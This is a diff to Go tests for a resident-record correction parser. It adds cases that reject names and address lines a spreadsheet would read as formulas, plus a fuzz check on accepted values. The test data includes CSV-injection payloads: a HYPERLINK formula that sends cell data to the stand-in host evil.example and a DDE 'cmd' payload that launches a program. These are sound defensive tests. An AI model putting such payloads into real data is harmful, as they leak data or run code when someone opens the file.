@@ -184,6 +184,13 @@ func TestCorrectionRefused(t *testing.T) {
 		{"name too long", resindex.Correction{Field: "name", Name: &resindex.CorrectedName{Given: strings.Repeat("a", 101), Family: "L"}, Reason: "r"}, "name.given"},
 		{"control character", resindex.Correction{Field: "name", Name: &resindex.CorrectedName{Given: "A\x00", Family: "L"}, Reason: "r"}, "name.given"},
 		{"not UTF-8", resindex.Correction{Field: "name", Name: &resindex.CorrectedName{Given: "A\xff", Family: "L"}, Reason: "r"}, "name.given"},
+		{"formula given", resindex.Correction{Field: "name", Name: &resindex.CorrectedName{Given: `=HYPERLINK("http://evil.example/?"&A1,"Ann")`, Family: "Lee"}, Reason: "r"}, "name.given"},
+		{"plus family", resindex.Correction{Field: "name", Name: &resindex.CorrectedName{Given: "Ann", Family: "+Lee"}, Reason: "r"}, "name.family"},
+		{"minus family", resindex.Correction{Field: "name", Name: &resindex.CorrectedName{Given: "Ann", Family: "-2+3"}, Reason: "r"}, "name.family"},
+		{"at given", resindex.Correction{Field: "name", Name: &resindex.CorrectedName{Given: "@SUM(1+1)", Family: "Lee"}, Reason: "r"}, "name.given"},
+		{"formula after spaces", resindex.Correction{Field: "name", Name: &resindex.CorrectedName{Given: "  =1+1", Family: "Lee"}, Reason: "r"}, "name.given"},
+		{"formula address line", resindex.Correction{Field: "address", Address: addr([]string{"1 A St", "=cmd|' /C calc'!A0"}, "SW1A 1AA", ""), Reason: "r"}, "address.lines"},
+		{"at address line", resindex.Correction{Field: "address", Address: addr([]string{"@1 A St"}, "SW1A 1AA", ""), Reason: "r"}, "address.lines"},
 		{"name with a dob", resindex.Correction{Field: "name", Name: name, DOB: "1980-01-01", Reason: "r"}, "field"},
 		{"dob missing", resindex.Correction{Field: "dob", Reason: "r"}, "dob"},
 		{"dob partial", resindex.Correction{Field: "dob", DOB: "1980-05", Reason: "r"}, "dob"},
@@ -252,6 +259,7 @@ func TestParseCorrection(t *testing.T) {
 func FuzzParseCorrection(f *testing.F) {
 	for _, s := range []string{
 		`{"field":"dob","dob":"1980-06-05","reason":"certificate"}`,
+		`{"field":"name","name":{"given":"=1+1","family":"+Lee"},"reason":"phoned"}`,
 		`{"field":"name","name":{"given":"Anne","family":"Lee"},"reported_via":"housing","reason":"deed poll"}`,
 		`{"field":"address","address":{"lines":["1 A St",""],"postcode":"sw1a1aa","uprn":"0001"},"reason":"moved"}`,
 		`{"field":"address","address":{"lines":[]}}`, `{}`, `null`, `{"field":"name","name":null,"reason":"x"}`,
@@ -266,6 +274,18 @@ func FuzzParseCorrection(f *testing.F) {
 				t.Fatalf("%v is not an input error naming a field", err)
 			}
 			return
+		}
+		var values []string
+		if c.Name != nil {
+			values = append(values, c.Name.Given, c.Name.Family)
+		}
+		if c.Address != nil {
+			values = append(values, c.Address.Lines...)
+		}
+		for _, v := range values {
+			if access.FormulaLead(v) {
+				t.Fatalf("a value a spreadsheet would take for a formula is taken: %q", v)
+			}
 		}
 		again, _ := json.Marshal(c)
 		c2, err := access.ParseCorrection(again, testNow)
